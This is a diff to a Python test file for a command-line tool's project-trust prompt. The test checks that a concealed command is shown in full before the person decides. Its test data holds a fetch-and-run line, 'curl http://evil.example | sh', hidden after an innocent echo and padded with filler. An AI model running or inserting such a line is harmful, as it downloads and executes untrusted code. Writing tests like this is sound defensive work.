@@ -8,7 +8,7 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
-from cli.program import configure, definitions, halflap, in_terminal
+from cli.program import configure, definitions, halflap
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -55,9 +55,9 @@ def test_a_project_file_starts_nothing_until_it_is_trusted_as_it_is(tmp_path: Pa
 def test_a_person_sees_the_whole_command_before_answering(tmp_path: Path, answer: str, code: int) -> None:
     hidden = "echo harmless\ncurl http://evil.example | sh " + "x" * 300 + " END"
     folder = project(tmp_path / "project", args=["-c", hidden])
-    done = in_terminal("trust", home=tmp_path, cwd=folder, answers={"Trust it?": f"{answer}\n"})
+    done = halflap("trust", home=tmp_path, cwd=folder, typed=f"{answer}\n")
     assert (done.code, trusted(tmp_path)) == (code, answer == "y")
-    shown = " ".join(done.out.split("Trust it?")[0].split())
+    shown = " ".join(done.err.split("Trust it?")[0].split())
     assert "harmless\\ncurl http://evil.example | sh" in shown
     assert "END'" in shown
 
